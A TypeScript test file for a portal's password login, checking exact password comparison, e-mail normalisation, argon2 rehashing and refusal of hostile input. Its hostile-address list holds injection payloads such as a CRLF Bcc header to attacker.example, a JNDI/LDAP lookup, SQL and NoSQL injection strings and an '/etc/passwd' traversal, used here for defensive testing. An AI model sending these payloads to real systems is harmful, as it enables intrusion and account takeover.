/** Passwords are compared exactly, e-mail addresses in their normal form; hostile addresses are refused. */
import { hashSync } from "@node-rs/argon2";
import { afterAll, beforeAll, expect, test } from "vitest";
import { logInWithPassword } from "@storyport/contract/login";
import { argon2Parameters } from "#/platform/hashing/argon2-parameters.ts";
import { aPassword, aTeacher } from "#test/builders.ts";
import { buildTestPortal } from "#test/build-app.ts";
import type { TestPortal } from "#test/build-app.ts";
import type { Answer } from "#test/browser.ts";
import { expectRefused } from "#test/expect-envelope.ts";

let portal: TestPortal;
beforeAll(async () => {
  portal = await buildTestPortal();
});
afterAll(() => portal.close());

const attempt = (email: unknown, password: unknown): Promise<Answer> =>
  portal.browser().call(logInWithPassword, { body: { email, password, deviceName: "a test" } });

const long = "Ab-3".repeat(32);

test.each([
  ["the last of 128 characters", long, `${long.slice(0, 127)}x`],
  ["a leading space", " Lantern-Light-9", "Lantern-Light-9"],
  ["a trailing space", "Lantern-Light-9 ", "Lantern-Light-9"],
  ["the case of a letter", "Lantern-Light-9", "lantern-light-9"],
  ["composed and decomposed letters", "Blåbærsyltetøy-9".normalize("NFC"), "Blåbærsyltetøy-9".normalize("NFD")],
  ["full-width letters", "Lantern-Light-9", "Ｌantern-Light-9"],
])("passwords that differ by %s are different", async (_what, password, other) => {
  const { account } = await aTeacher(portal, { password });
  expect((await attempt(account.email, other)).status).toBe(401);
  expect((await attempt(account.email, password)).status).toBe(200);
});

test("a password of emoji and of several scripts is a password", async () => {
  const password = "👩‍👩‍👧‍👦-مرحبا-שלום-読書";
  const { account } = await aTeacher(portal, { password });
  expect((await attempt(account.email, password)).status).toBe(200);
});

test("a password with U+0000 or half a surrogate pair in it is refused", async () => {
  for (const bad of ["Lantern\u0000Light-9", "Lantern\ud800Light-9"]) expectRefused(await attempt("a@school.example", bad));
});

test.each([
  ["in capitals", (email: string) => email.toUpperCase()],
  ["with spaces around it", (email: string) => `  ${email}\t`],
  ["with a full-width ＠", (email: string) => email.replace("@", "＠")],
  ["in full-width letters", (email: string) => email.replace("person", "ｐｅｒｓｏｎ")],
])("an e-mail %s is the same e-mail", async (_what, spoil) => {
  const { account } = await aTeacher(portal);
  expect((await attempt(spoil(account.email), aPassword)).body).toMatchObject({ accountId: account.id, email: account.email });
});

const hostileAddresses = [
  "victim@school.example\r\nBcc: x@attacker.example",
  "victim@school.example\u0000",
  "victim@school.example\u0000@attacker.example",
  "victim@school.example,x@attacker.example",
  "victim@school.example <x@attacker.example>",
  "victim@school.example;x@attacker.example",
  '"x@attacker.example"@school.example',
  "victim@[127.0.0.1]",
  "victim@school..example",
  "@school.example",
  "victim@",
  "victim@@school.example",
  "vic\u202etim@school.example",
  "vic\u200btim@school.example",
  "vic\ud800tim@school.example",
  `${"v".repeat(250)}@school.example`,
  "' or 1=1 --@school.example' or '1'='1",
  "victim@school.example%00",
  "${jndi:ldap://attacker.example/a}",
  "../../etc/passwd",
];

test.each(hostileAddresses)("the address %j is refused or unknown, never an internal error", async (email) => {
  expectRefused(await attempt(email, aPassword));
});

test.each([[["a@school.example"]], [{ address: "a@school.example" }], [1], [true], [null], [{ $ne: "" }]])(
  "the e-mail %j is refused: it is not text",
  async (email) => {
    const answer = await attempt(email, aPassword);
    expect(answer.status).toBe(400);
    expectRefused(answer);
  },
);

test.each([[[aPassword]], [{ password: aPassword }], [12_345_678], [true], [null]])(
  "the password %j is refused: it is not text",
  async (password) => {
    const { account } = await aTeacher(portal);
    expect((await attempt(account.email, password)).status).toBe(400);
  },
);

test("the next login replaces a hash of weaker parameters", async () => {
  const { account } = await aTeacher(portal);
  const weak = hashSync(aPassword, { ...argon2Parameters, memoryCost: 8192 });
  const { database } = portal.context;
  await database.updateTable("accounts").set({ password_hash: weak }).where("id", "=", account.id).execute();
  const stored = () => database.selectFrom("accounts").select("password_hash").where("id", "=", account.id).executeTakeFirstOrThrow();
  expect((await attempt(account.email, `${aPassword}!`)).status).toBe(401);
  expect((await stored()).password_hash).toBe(weak);
  expect((await attempt(account.email, aPassword)).status).toBe(200);
  const { password_hash: renewed } = await stored();
  expect(renewed).toMatch(/^\$argon2id\$v=19\$m=19456,t=2,p=1\$/);
  expect((await attempt(account.email, aPassword)).status).toBe(200);
  expect((await stored()).password_hash).toBe(renewed);
});
